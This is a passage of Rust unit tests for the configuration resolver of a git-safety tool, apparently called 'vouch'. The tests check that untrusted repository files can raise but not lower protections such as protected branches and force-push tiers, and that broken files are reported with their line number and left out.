                if r.base.is_empty() {
                    assert_eq!(
                        (r.get)(&trusted),
                        (r.get)(&by_user),
                        "{key}: a trusted file sets what the user config sets"
                    );
                }
                let untrusted = resolve(&both(&r.base, lower, false));
                assert_eq!(
                    (r.get)(&untrusted),
                    in_force,
                    "{key}: an untrusted file cannot lower it ({lower})"
                );
                assert_eq!(
                    untrusted.warnings.len(),
                    1,
                    "{key}: {:?}",
                    untrusted.warnings
                );
                let line = &untrusted.warnings[0];
                let named = key.split('.').next_back().unwrap();
                assert!(line.contains(named), "{key}: {line}");
                assert!(
                    line.contains("vouch trust") && line.contains("at a terminal"),
                    "{line}"
                );
                assert!(untrusted.broken.is_empty());
            }
            if let Some(raise) = &r.raise {
                for trusted in [false, true] {
                    let c = resolve(&both(&r.base, raise, trusted));
                    assert!(c.warnings.is_empty(), "{key}: {:?}", c.warnings);
                    assert_ne!(
                        (r.get)(&c),
                        in_force,
                        "{key}: any file may raise it ({raise})"
                    );
                }
            }
            // Restating the value in force is no lowering: no line (programs
            // and providers are tables, always named).
            let tables = ["verifiers", "providers"];
            for same in r
                .lower
                .iter()
                .chain(&r.raise)
                .filter(|_| !tables.contains(&key.as_str()))
            {
                let mut inputs = user(same);
                inputs.repo = repo(same, false).repo;
                let c = resolve(&inputs);
                assert!(c.warnings.is_empty(), "{key} restated: {:?}", c.warnings);
            }
        }
    }

    /// The accepted keys of one table, read from the error an unknown key draws.
    fn accepted_keys(table: &str) -> Vec<String> {
        let text = if table.is_empty() {
            "zzz_unknown = 1\n".to_owned()
        } else {
            format!("[{table}]\nzzz_unknown = 1\n")
        };
        let e = err(&user(&text));
        let list = e
            .split_once("accepted")
            .expect("an unknown-key error lists the keys")
            .1;
        list.split('`')
            .skip(1)
            .step_by(2)
            .map(|k| {
                if table.is_empty() {
                    k.to_owned()
                } else {
                    format!("{table}.{k}")
                }
            })
            .collect()
    }

    #[test]
    fn every_setting_has_a_decision() {
        let keys: Vec<String> = rows().into_iter().map(|r| r.key).collect();
        let mut seen = 0;
        for table in [
            "",
            "protected",
            "thresholds",
            "tiers",
            "on_unavailable",
            "log",
            "ai",
            "commit",
            "commit.tiers",
            "agent",
        ] {
            for key in accepted_keys(table) {
                seen += 1;
                // A table is decided by its keys' rows; `verifiers.NAME`,
                // `providers.NAME`, `prices.NAME` and `[[rules]]` as a whole.
                let decided = keys
                    .iter()
                    .any(|k| *k == key || k.starts_with(&format!("{key}.")));
                assert!(
                    decided,
                    "no trust decision for `{key}`: add a row and a line to the module doc"
                );
            }
        }
        assert!(seen > 60, "{seen} keys read");
    }

    #[test]
    fn environment_only_raises_except_what_stands_in_for_the_user() {
        let file = user("verify_standard = true\nstrict = true\n");
        let off = MapEnv::from_pairs(&[("VOUCH_VERIFY", "0"), ("VOUCH_STRICT", "false")]);
        let c = Config::resolve(&file, &off);
        assert!(c.verify_standard && c.strict, "`0` leaves the files' value");
        let on = MapEnv::from_pairs(&[("VOUCH_VERIFY", "1"), ("VOUCH_STRICT", "1")]);
        let c = Config::resolve(&repo("verify_standard = false\n", true), &on);
        assert!(c.verify_standard && c.strict, "above every file");
        // `VOUCH_LOG` stands in for the user and wins over every file.
        let log = MapEnv::from_pairs(&[("VOUCH_LOG", "/x/log.jsonl")]);
        let c = Config::resolve(&repo("[log]\npath = \"/r/log\"\n", true), &log);
        assert_eq!(c.log_path.unwrap(), PathBuf::from("/x/log.jsonl"));
    }

    #[test]
    fn an_untrusted_file_lowering_many_settings_draws_one_line() {
        let text = "mode = \"observe\"\n[tiers]\nforce_push_protected = \"none\"\nlocal_delete = \"none\"\n[protected]\nbranches = []\n[on_unavailable]\ncritical = \"allow\"\n";
        let c = resolve(&repo(text, false));
        assert_eq!(c.mode, Mode::Enforce);
        assert_eq!(c.policy.tiers.force_push_protected, Tier::Critical);
        assert_eq!(c.policy.tiers.local_delete, Tier::Critical);
        assert!(c.policy.protected.is_match("main"));
        assert_eq!(c.on_unavailable.critical, OnUnavailable::Ask);
        assert_eq!(c.warnings.len(), 1, "{:?}", c.warnings);
        let line = &c.warnings[0];
        for what in [
            "`mode = \"observe\"`",
            "`tiers.force_push_protected = \"none\"`",
            "`tiers.local_delete = \"none\"`",
            "`protected.branches`",
            "`on_unavailable.critical = \"allow\"`",
        ] {
            assert!(line.contains(what), "{what}: {line}");
        }
        assert!(!line.contains('\n'));
    }

    #[test]
    fn a_broken_file_is_left_out_whole_with_its_error_and_line() {
        // A broken repository file: the user's config stays in force.
        let mut inputs = user("[on_unavailable]\ncritical = \"block\"\n");
        inputs.repo = repo("mode = \"observe\"\n[tiers]\nforce_push = 3\n", true).repo;
        let c = resolve(&inputs);
        assert_eq!(c.on_unavailable.critical, OnUnavailable::Block);
        assert_eq!(c.mode, Mode::Enforce, "nothing of a broken file applies");
        assert_eq!(c.broken.len(), 1);
        assert_eq!(c.warnings.len(), 1);
        let line = &c.warnings[0];
        assert!(
            line.contains("/r/.vouch.toml") && line.contains("line 3"),
            "{line}"
        );
        assert!(
            line.contains("judged by the user config and the defaults"),
            "{line}"
        );
        assert!(!line.contains("no-verify"), "{line}");
        // A value that parses but is invalid leaves the whole file out too.
        inputs.repo = repo("mode = \"observe\"\n[ai]\ntimeout_secs = 0\n", true).repo;
        let c = resolve(&inputs);
        assert_eq!(c.mode, Mode::Enforce);
        assert!(
            c.warnings[0].contains("ai.timeout_secs"),
            "{:?}",
            c.warnings
        );
        // A broken user config: the defaults, and a valid repository file
        // under the same trust rule.
        let mut inputs = user("[on_unavailable]\ncritical = \"block\"\nstrict = maybe\n");
        inputs.repo = repo(
            "[tiers]\nforce_push = \"critical\"\nlocal_delete = \"none\"\n",
            false,
        )
        .repo;
        let c = resolve(&inputs);
        assert_eq!(c.on_unavailable.critical, OnUnavailable::Ask, "defaults");
        assert_eq!(
            c.policy.tiers.force_push,
            Tier::Critical,
            "the repository raises"
        );
        assert_eq!(
            c.policy.tiers.local_delete,
            Tier::Critical,
            "but cannot lower"
        );
        assert_eq!(c.broken.len(), 1);
        assert_eq!(c.warnings.len(), 2, "{:?}", c.warnings);
        assert!(c.warnings[0].contains("config.toml") && c.warnings[0].contains("line 3"));
        assert!(c.warnings[0].contains("built-in defaults until it is fixed"));
    }
}
